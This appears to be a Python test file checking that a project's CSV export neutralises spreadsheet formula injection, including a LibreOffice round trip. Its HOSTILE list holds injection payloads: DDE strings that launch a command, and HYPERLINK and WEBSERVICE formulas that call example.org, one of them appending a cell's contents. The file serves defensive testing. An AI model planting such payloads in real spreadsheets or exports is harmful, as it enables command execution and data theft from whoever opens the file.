"""Cells of a table: no spreadsheet program reckons with what was written, and it comes back as it was."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from numbcheck.exchange import csv_
from numbcheck.exchange.formula_safe import safe, typed
from tests.journal.kit import an_entry

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = [
    *(f"{sign}1+1" for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "'=", '"=', " =", "\u200b=")),
    *(f"a{between}{sign}cmd|'/C calc'!A0" for between in (";", ",", "\t", "\n", '";', '\n"', ';"') for sign in "=+-@"),
    '=HYPERLINK("http://example.org/?"&A1;"look")', '-2+WEBSERVICE("http://example.org")', "%0A=1+1", '"', 'a"b;c',
    "2024-01-02", "1/2/2024", "1e5", "007", "1,5", "TRUE", "12:30", "50%", "1-2", "{=1+1}", "- milk\n- bread (two)",
]  # fmt: skip
"""What a text may begin with, or hold, that a program for tables might reckon with."""


@given(st.text(alphabet="=+-@'\";\t\n\r ab(|!\uff1d") | st.sampled_from(HOSTILE))
@example("'=1")
@example("a;'=1")
def test_a_cell_comes_back_as_it_was_typed(text: str) -> None:
    """Whatever keeps a program from reckoning with a text is taken away again, and nothing else."""
    assert typed(safe(text)) == text


def test_a_list_in_a_text_stays_as_it_is() -> None:
    """A dash in front of a line is a dash."""
    assert safe("to buy:\n- milk\n+ bread\n@sam") == "to buy:\n- milk\n+ bread\n@sam"


FORMULA = re.compile(r'table:formula="[^"]*"')


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not here")
@pytest.mark.parametrize("between", [44, 59], ids=[",", ";"])
def test_a_real_program_for_tables_finds_no_formula(between: int, tmp_path: Path) -> None:
    """LibreOffice opens the file, as one with commas and as one with semicolons, and has nothing to reckon."""
    entries = [an_entry(text, seed=seed) for seed, text in enumerate(HOSTILE)]
    ours = "".join(csv_.document(entries))
    (tmp_path / "ours.csv").write_text(ours, encoding="utf-8", newline="")
    with (tmp_path / "careless.csv").open("w", newline="") as careless:
        csv.writer(careless).writerows([["at", "text"], *(["now", text] for text in HOSTILE)])
    subprocess.run(
        [
            *("soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless"),
            *(f"--infilter=CSV:{between},34,76,1", "--convert-to", "fods", "--outdir", str(tmp_path)),
            *(str(tmp_path / "ours.csv"), str(tmp_path / "careless.csv")),
        ],
        capture_output=True,
        check=True,
        timeout=120,
    )
    assert FORMULA.findall((tmp_path / "ours.fods").read_text()) == []
    assert len(FORMULA.findall((tmp_path / "careless.fods").read_text())) > 1
